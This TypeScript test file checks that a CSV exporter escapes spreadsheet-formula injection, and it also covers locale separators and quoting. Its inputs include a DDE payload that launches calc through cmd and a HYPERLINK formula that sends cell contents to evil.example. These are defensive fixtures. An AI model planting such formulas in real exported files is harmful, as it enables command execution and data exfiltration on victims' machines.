import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { languages } from '#contracts/text/language.ts';
import { toCsv } from '#lambdas/platform/csv.ts';

/** The cells that a reader after RFC 4180 takes from a file. */
const parse = (csv: string): string[][] => {
  const rows: string[][] = [[]];
  for (const [, quoted = '', end] of csv.matchAll(/"((?:[^"]|"")*)"([,;]|\r\n)/g)) {
    rows.at(-1)?.push(quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
};

describe('a CSV file [S-088, Q-022]', () => {
  it.each([
    '=1+1',
    '+1-800-000',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '@import',
    '+972521234567',
    '-',
    '\u2066=1+1\u2069',
    '\u200F-2+3',
  ])('makes %j text that no spreadsheet runs', (value) => {
    expect(parse(toCsv([[value]], 'he'))).toEqual([[`'${value}`]]);
  });

  it.each([
    'dana',
    'a=b',
    'name@mail.example',
    '1-2',
    'שלום',
    '',
    ' ',
    '"quoted"',
    'a,b',
    'a;b',
    'one\r\ntwo',
    'one\ntwo',
  ])('leaves %j as it is', (value) => expect(parse(toCsv([[value]], 'he'))).toEqual([[value]]));

  it('gives back whatever was put in, row by row', () => {
    const rows = fc.array(
      fc.array(fc.string({ unit: fc.constantFrom(...'=+-@＝＋－＠\t\r\n",;\'ab ש🩰') }), {
        minLength: 1,
        maxLength: 4,
      }),
      { maxLength: 5 },
    );
    fc.assert(
      fc.property(rows, fc.constantFrom(...languages), (table, language) => {
        const back = parse(toCsv(table, language));
        expect(back).toEqual(
          table.map((row) => row.map((value) => (/^[=+\-@＝＋－＠\t\r\n]/.test(value) ? `'${value}` : value))),
        );
      }),
    );
  });

  it('leaves numbers to be counted with', () => {
    for (const language of ['he', 'en'] as const)
      expect(toCsv([[-7, 0.125, 34_567]], language)).toBe('"-7","0.125","34567"\r\n');
    for (const language of ['ru', 'fr', 'es'] as const)
      expect(toCsv([[-7, 0.125, 34_567]], language)).toBe('"-7";"0,125";"34567"\r\n');
  });

  it('quotes each cell and ends each row with CR LF', () => {
    expect(
      toCsv(
        [
          ['a', 'b"c'],
          ['', 'd'],
        ],
        'en',
      ),
    ).toBe('"a","b""c"\r\n"","d"\r\n');
  });
});
